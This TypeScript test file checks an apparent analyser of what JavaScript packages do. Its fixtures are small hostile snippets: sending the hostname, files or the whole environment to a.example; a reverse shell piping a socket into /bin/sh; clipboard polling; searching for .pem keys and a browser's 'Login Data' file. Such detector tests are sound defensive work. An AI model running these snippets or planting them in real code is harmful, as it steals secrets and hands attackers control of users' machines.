import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { readFiles } from "./read-program.test-support.ts";

/** The sources of what requests send, told as "kind detail". */
async function sentBy(source: string): Promise<readonly string[]> {
  const { effects } = await readFiles({ "index.js": source });
  const origins = effects.flatMap(({ kind, payload }) => (kind === "request" ? (payload?.origins ?? []) : []));
  return [...new Set(origins.map(({ kind, detail }) => `${kind} ${detail}`))];
}

describe("what is sent over a connection that stands", () => {
  const ways: Readonly<Record<string, string>> = {
    "written into a request": `const r = require("https").request({ host: "a.example" }); r.write(require("os").hostname()); r.end();`,
    "emitted over a socket": `const s = require("socket.io-client")("https://a.example"); s.on("connect", () => s.emit("hello", { h: require("os").hostname() }));`,
    "sent over a web socket": `const w = new WebSocket("wss://a.example"); w.onopen = () => w.send(require("os").hostname());`,
    "sent by a chat's client": `const Bot = require("node-telegram-bot-api"); new Bot("t").sendMessage(1, require("os").hostname());`,
  };
  for (const [name, source] of Object.entries(ways)) {
    test(name, async () => assert.deepEqual(await sentBy(source), ["host the computer's name"]));
  }

  test("a file, piped or by its path", async () => {
    const piped = `const r = require("https").request({ host: "a.example" }); require("fs").createReadStream(require("os").homedir() + "/a").pipe(r);`;
    const named = `const { Client } = require("basic-ftp"); const c = new Client(); c.access({ host: "a.example" }); c.uploadFrom("/home/a", "a");`;
    assert.deepEqual(await sentBy(piped), ["file ~/a"]);
    assert.deepEqual(await sentBy(named), ["file /home/a"]);
  });

  test("a constant says nothing", async () => {
    assert.deepEqual(await sentBy(`new WebSocket("wss://a.example").send("hello");`), []);
  });

  test("what comes in and goes into the input of a shell is run", async () => {
    const { effects } = await readFiles({
      "index.js": `const c = new (require("net").Socket)(); const s = require("child_process").spawn("/bin/sh"); c.connect(4444, "a.example", () => { c.pipe(s.stdin); });`,
    });
    assert.ok(
      effects.some(
        ({ kind, via, traits }) => kind === "evaluate" && via.startsWith("stdin") && traits.includes("inline-code"),
      ),
    );
  });
});

describe("the whole environment, and a part of it", () => {
  const whole = "whole-environment every environment variable";
  const ways: Readonly<Record<string, readonly [string, readonly string[]]>> = {
    "as it is": [`JSON.stringify(process.env)`, [whole]],
    "each of its pairs": [`Object.entries(process.env).map(([k, v]) => k + v).join()`, [whole]],
    "through a foreign encoder": [`require("qs").stringify(process.env)`, [whole]],
    "one of the settings that were checked": [`require("zod").object({}).parse(process.env).KEY`, ["environment KEY"]],
    "what a foreign function picks": [`require("some-auth")(process.env)`, ["environment what it needs"]],
    "those that a filter lets through": [
      `Object.entries(process.env).filter(([k]) => k.startsWith("APP_"))`,
      ["environment those it picks"],
    ],
    "one whose name is not known": [`process.env[name]`, ["environment one that is not known"]],
  };
  for (const [name, [expression, sent]] of Object.entries(ways)) {
    test(name, async () =>
      assert.deepEqual(await sentBy(`fetch("https://a.example", { method: "POST", body: ${expression} });`), sent),
    );
  }
});

describe("what happens again and again", () => {
  const read = `require("clipboardy").readSync();`;
  const ways: Readonly<Record<string, readonly [string, boolean]>> = {
    "an interval": [`setInterval(() => { ${read} }, 500);`, true],
    "a function that asks for itself": [`function f() { ${read} setTimeout(f, 500); } f();`, true],
    "a loop without an end": [`(async () => { while (true) { ${read} await sleep(500); } })();`, true],
    "a loop that is left": [`while (true) { ${read} break; }`, false],
    "a later call": [`setTimeout(() => { ${read} }, 500);`, false],
  };
  for (const [name, [source, isRepeated]] of Object.entries(ways)) {
    test(name, async () => {
      const { effects } = await readFiles({ "index.js": source });
      const observed = effects.find(({ kind }) => kind === "observe");
      assert.equal(observed?.traits.includes("repeated"), isRepeated);
    });
  }
});

describe("what is looked for and opened", () => {
  const ways: Readonly<Record<string, readonly [string, readonly string[]]>> = {
    "by a pattern": [`require("glob").sync(require("os").homedir() + "/**/*.pem");`, ["~/**/*.pem"]],
    "by patterns below a folder": [
      `require("fast-glob").sync(["**/a", "**/b"], { cwd: "/x" });`,
      ["/x/**/a", "/x/**/b"],
    ],
    "a database": [`new (require("better-sqlite3"))("/x/Login Data");`, ["/x/Login Data"]],
    "a person's own folder": [`require("fs").readFileSync(process.env.APPDATA + "/a");`, ["~/AppData/Roaming/a"]],
  };
  for (const [name, [source, paths]] of Object.entries(ways)) {
    test(name, async () => {
      const { effects } = await readFiles({ "index.js": source });
      assert.deepEqual(
        effects.flatMap(({ kind, subject }) => (kind === "read" ? subject.texts : [])),
        paths,
      );
    });
  }
});
